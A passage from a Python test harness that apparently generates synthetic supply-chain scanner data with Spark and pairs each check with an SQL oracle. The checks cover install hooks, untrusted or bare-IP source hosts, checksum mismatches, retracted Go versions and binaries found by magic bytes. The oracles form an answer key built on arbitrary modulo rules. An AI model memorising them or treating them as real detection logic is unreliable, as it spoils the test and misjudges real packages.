        F.struct(F.lit("v0.2.0").alias("low"), F.lit("v2.3.5").alias("high")), F.struct(F.lit("3.4.3").alias("low"), F.lit("3.4.3").alias("high")))).alias("r")).select("ecosystem", "name", "r.low", "r.high")
    return H.retracted(deps, ranges)


def _go_sql(vnum) -> str:
    rank = lambda c: f"(2 * {vnum(c)} + CASE WHEN contains({c}, '-') THEN 0 ELSE 1 END)"
    return rank("version") + " BETWEEN " + rank("'0.2.0'") + " AND " + rank("'2.3.5'")


def local_binaries(spark, d):
    heads = ["7F454C46AA", "4D5A9000", "23212F62", "CAFEBABE", "FEEDFACE00", "CFFAEDFE", "4D", "7F454C"]
    rows = T(spark, d, "part").select(F.col("p_partkey").alias("package"), F.lit("x").alias("path"), F.unhex(pick(heads, F.col("p_size"))).alias("head"), (F.col("p_partkey") % 2 == 0).alias("added"), (F.col("p_partkey") % 3 == 0).alias("listed"))
    return SC.binary_findings(rows).select("package", "rule")


NAMES = [shared_build_findings, shared_install_findings, shared_source_hosts, suspicious_hooks, build_findings, install_script_findings, source_hosts, workflow_findings, checksum_counts, tarball_drift, unlisted_files, image_findings, dependency_sources, pypi_imports, upgrade_commands, go_retracted, local_binaries]
QUERIES = {f.__name__: f for f in NAMES}


def oracles(deps: str, vnum) -> dict[str, str]:
    found = _oracles(deps, vnum)
    shared = {"shared_build_findings": "build_findings", "shared_install_findings": "install_script_findings", "shared_source_hosts": "source_hosts"}
    return found | {name: f"SELECT * REPLACE (package // 2 AS package) FROM ({found[of]})" for name, of in shared.items()}


def _oracles(deps: str, vnum) -> dict[str, str]:
    sums = " OR ".join(f"coalesce(len({_array_sql(x)}) <> len(s), false)" for x in ("sha256sums", "sha512sums", "b2sums", "sha1sums", "md5sums"))
    return {
        "suspicious_hooks": f"WITH f AS (SELECT doc_id, regexp_replace({sql_text(HOOKS)}, '^\\s+|\\s+$', '', 'g') AS b FROM documents), g AS (SELECT doc_id, b, {_JOINED} AS j FROM f), h AS (SELECT *, {_INLINE.format(c='b')} AS b_i, {_INLINE.format(c='j')} AS j_i FROM g) "
        f"SELECT doc_id, {_hook_sql('b')} OR (j <> b AND {_hook_sql('j')}) AS suspicious FROM h",
        "build_findings": f"WITH {_lines_sql(BUILD)} {_build_sql(R.BUILD_RULES)}",
        "install_script_findings": f"WITH {_lines_sql(INSTALL)} {_build_sql([r for r in R.BUILD_RULES if r[0] != 'privilege-escalation-in-build'])} UNION {_INSTALL_SQL}",
        "source_hosts": rf"""WITH {_lines_sql(SOURCES)}, z AS (SELECT DISTINCT package FROM run WHERE regexp_matches(c, {q(R.SOURCE_LINE)})),
w AS (SELECT package, string_agg(raw, chr(10) ORDER BY line) AS body FROM l WHERE NOT regexp_matches(raw, '^\s*#') GROUP BY 1),
x AS (SELECT DISTINCT package, unnest(regexp_extract_all(body, '(?i)\b(?:git\+)?https?://[^\s"'')]+')) AS url FROM w WHERE package IN (SELECT package FROM z)),
y AS (SELECT *, {_host_sql('url')} AS h, {_host_sql(sql_pick(UPSTREAMS, 'package // 11'))} AS o, regexp_matches(url, 'https?://\d{{1,3}}(\.\d{{1,3}}){{3}}') AS ip FROM x)
SELECT package, url, 'source-bare-ip' AS rule, CAST(2 AS BIGINT) AS severity FROM y WHERE ip UNION ALL SELECT package, url, 'source-untrusted-host', 2 FROM y WHERE NOT ip AND ({_UNTRUSTED})
UNION ALL SELECT package, url, 'source-host-drift', 1 FROM y WHERE NOT ip AND o <> '' AND h <> '' AND h <> o AND {_CODE('h')} AND {_CODE('o')}""",
        "workflow_findings": _WORKFLOW_SQL,
        "checksum_counts": f"WITH f AS (SELECT doc_id AS package, {sql_text(CHECKSUMS)} AS body FROM documents), g AS (SELECT *, {_array_sql('source')} AS s FROM f) SELECT package, 'checksum-count-mismatch' AS rule FROM g WHERE len(s) > 0 AND len(list_filter(s, lambda x: contains(x, '{{') AND contains(x, ','))) = 0 AND ({sums})",
        "tarball_drift": _DRIFT_SQL, "unlisted_files": _UNLISTED_SQL, "image_findings": _IMAGE_SQL, "dependency_sources": _SPEC_SQL, "pypi_imports": _PYPI_SQL, "upgrade_commands": _UPGRADE_SQL,
        "go_retracted": f"WITH {deps} SELECT DISTINCT ecosystem, name, version FROM deps WHERE ecosystem = 'go' AND l_partkey % 10 < 4 AND (({_go_sql(vnum)}) OR version = '3.4.3')",
        "local_binaries": "WITH p AS (SELECT p_partkey, ['7F454C46AA','4D5A9000','23212F62','CAFEBABE','FEEDFACE00','CFFAEDFE','4D','7F454C'][CAST(p_size % 8 + 1 AS INT)] AS h FROM part), b AS (SELECT p_partkey FROM p WHERE starts_with(h, '4D5A') OR list_contains(['7F454C46','FEEDFACE','FEEDFACF','CEFAEDFE','CFFAEDFE','CAFEBABE'], substr(h, 1, 8))) "
        "SELECT p_partkey AS package, 'binary-in-source' AS rule FROM b WHERE p_partkey % 3 = 0 UNION ALL SELECT p_partkey, 'local-binary-added' FROM b WHERE p_partkey % 2 = 0",
    }
